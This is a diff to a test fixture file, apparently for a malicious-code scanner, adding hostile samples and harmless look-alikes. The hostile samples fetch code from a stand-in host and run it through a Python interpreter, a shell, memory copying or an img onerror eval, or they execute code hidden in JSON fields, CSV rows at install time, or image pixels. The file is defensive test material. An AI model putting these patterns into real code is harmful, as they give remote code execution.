@@ -55,12 +55,54 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a worker of a text": Sample(
             {"a.mjs": f"const t = {_ASK};\nnew Worker(URL.createObjectURL(new Blob([t])));\n"}, "block", ("a.mjs", 2)
         ),
+        "to an interpreter that waits": py(
+            "import requests, subprocess\np = subprocess.Popen(['python'], stdin=subprocess.PIPE)\n"
+            "p.communicate(requests.get('https://a.invalid').content)\n",
+            line=3,
+        ),
+        "to a shell, as it is started": js(
+            "const cp = require('child_process');\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(t => cp.execSync('sh', { input: t }));\n"
+        ),
+        "into memory": py(
+            "import ctypes, requests\nb = requests.get('https://a.invalid').content\n"
+            "ctypes.windll.kernel32.RtlMoveMemory(0, b, len(b))\n",
+            line=3,
+        ),
+        "when a picture cannot be shown": Sample(
+            {"a.html": "<p>\n<img src=x onerror=\"fetch('https://a.invalid').then(r => r.text()).then(eval)\">\n"},
+            "block",
+            ("a.html", 2),
+        ),
         "a module behind an address": Sample(
             {"a.mjs": "import x from 'https://a.invalid/x.mjs';\nx();\n"}, "review", ("a.mjs", 1)
         ),
         "a function's own constructor": js(
             "const F = Object.getPrototypeOf(async function () {}).constructor;\n"
             "fetch('https://a.invalid').then(r => r.json()).then(j => F(j.c)());\n"
+        ),
+    },
+    "disguised_program": {
+        "a field of settings is run": Sample(
+            {"app.py": "import json\nexec(json.load(open('a.json'))['x'])\n", "a.json": '{"x": "1"}'},
+            "review",
+            ("app.py", 2),
+        ),
+        "a column of a table is run, on install": Sample(
+            {
+                "setup.py": "import csv\nfor row in csv.reader(open('a.csv')):\n    exec(row[1])\n",
+                "a.csv": "a,print(1)\n",
+            },
+            "block",
+            ("setup.py", 3),
+        ),
+        "a picture's points are run": Sample(
+            {
+                "app.py": "from PIL import Image\nexec(''.join(chr(p[0]) for p in Image.open('a.png').getdata()))\n",
+                "a.png": "x",
+            },
+            "block",
+            ("app.py", 2),
         ),
     },
     "remote_command": {
@@ -175,7 +217,26 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.js": "const w = new WebSocket('wss://a.invalid');\nw.onmessage = e => JSON.parse(e.data);\n"
         },
     },
+    "disguised_program": {
+        "settings are read beside fixed code": {
+            "app.py": "import json\nx = json.load(open('a.json'))['x']\nexec('y = 1')\n",
+            "a.json": '{"x": "1"}',
+        },
+        "a version is run from a source": {"setup.py": "exec(open('version.py').read())\n", "version.py": "v = 1\n"},
+        "a picture's points are counted": {
+            "app.py": "from PIL import Image\nprint(sum(p[0] for p in Image.open('a.png').getdata()))\nexec('y = 1')\n",
+            "a.png": "x",
+        },
+    },
     "remote_command": {
+        "a download is piped to a converter": {
+            "app.js": "const ff = require('child_process').spawn('ffmpeg', ['-i', '-']);\n"
+            "require('https').get('https://a.invalid', r => r.pipe(ff.stdin));\n"
+        },
+        "a shell is sent a fixed script": {
+            "app.py": "import requests, subprocess\nrequests.get('https://a.invalid')\n"
+            "subprocess.run(['sh'], input='echo hi', text=True)\n"
+        },
         "a chat is answered": {
             "app.py": "import os, telebot\nbot = telebot.TeleBot('0')\nos.system('git status')\n"
             "@bot.message_handler(func=lambda m: True)\ndef hear(m): bot.reply_to(m, m.text)\n"
